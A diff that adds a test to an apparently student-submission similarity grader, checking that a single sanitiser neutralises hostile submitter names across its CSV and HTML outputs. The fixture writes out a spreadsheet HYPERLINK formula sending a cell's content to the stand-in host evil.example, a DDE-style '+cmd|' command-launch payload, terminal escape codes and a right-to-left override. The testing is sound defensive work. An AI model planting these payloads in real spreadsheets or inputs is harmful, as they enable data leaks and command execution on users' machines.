@@ -309,3 +309,32 @@ def test_grade_with_similarity_writes_the_report_beside_the_grades(tmp_path):
                                .open(encoding="utf-8")))
     assert len(rows) == 1 and rows[0]["flagged"] == "1"
     assert (tmp_path / "out" / "similarity" / "similarity.html").is_file()
+
+
+def test_every_file_goes_through_the_one_sanitiser(tmp_path):
+    """A display name that is a spreadsheet formula, or holds escape sequences and a
+    right-to-left override, reaches similarity.csv, reference.csv and the pages only made
+    harmless (issue 19: grades.csv already was)."""
+    export = tmp_path / "export"
+    for n in range(2):
+        write_submission(REPO, export / f"submission_{n}", INDEPENDENT["ana"])
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    (export / "submission_metadata.yml").write_text(
+        "submission_0:\n  :submitters:\n  - :name: '" + formula + "'\n    :sid: '1'\n"
+        "submission_1:\n  :submitters:\n  - :name: \"+cmd|' /C calc'!A0\x1b[2J\u202e\"\n"
+        "    :sid: '2'\n", encoding="utf-8")
+    compare([export], tmp_path / "out")
+    cells = []
+    for name in ("similarity.csv", "reference.csv"):
+        with open(tmp_path / "out" / name, newline="", encoding="utf-8") as fh:
+            rows = list(csv.DictReader(fh))
+        assert rows, name
+        cells += [v for row in rows for v in row.values()]
+    names = [c for c in cells if "HYPERLINK" in c or "cmd|" in c]
+    assert len(names) >= 3 and all(c.startswith("'") for c in names), names
+    for path in (tmp_path / "out").rglob("*"):
+        if path.is_file():
+            text = path.read_text(encoding="utf-8")
+            assert "\x1b" not in text and "\u202e" not in text, path
+    index = (tmp_path / "out" / "similarity.html").read_text(encoding="utf-8")
+    assert "\\x1b[2J" in index and "\\u202e" in index   # shown, not acted on
